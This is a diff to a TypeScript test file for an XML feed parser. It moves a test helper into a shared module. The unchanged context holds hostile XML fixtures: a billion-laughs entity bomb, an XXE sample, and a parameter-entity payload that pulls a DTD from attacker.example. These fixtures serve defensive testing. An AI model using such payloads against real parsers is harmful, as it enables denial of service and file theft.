@@ -4,6 +4,7 @@ import { parseFeed } from './parse-feed.ts';
 import { utf8 } from './testdata/read.ts';
 import { assertSafeXml } from './xml-safety.ts';
 import { parseXml, textContent } from './xml-tree.ts';
+import { reasonOf } from './testdata/read.ts';
 
 const BILLION_LAUGHS = `<?xml version="1.0"?>
 <!DOCTYPE lolz [
@@ -26,16 +27,6 @@ const XXE = `<?xml version="1.0"?>
 const PARAMETER_ENTITIES = `<?xml version="1.0"?>
 <!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
 <rss version="2.0"><channel><title>x</title></channel></rss>`;
-
-function reasonOf(action: () => unknown): string {
-  try {
-    action();
-  } catch (error) {
-    if (error instanceof FeedParseError) return error.reason;
-    throw error;
-  }
-  throw new Error('expected a FeedParseError');
-}
 
 describe('assertSafeXml', () => {
   it('refuses the billion-laughs document, quickly, before any expansion', () => {
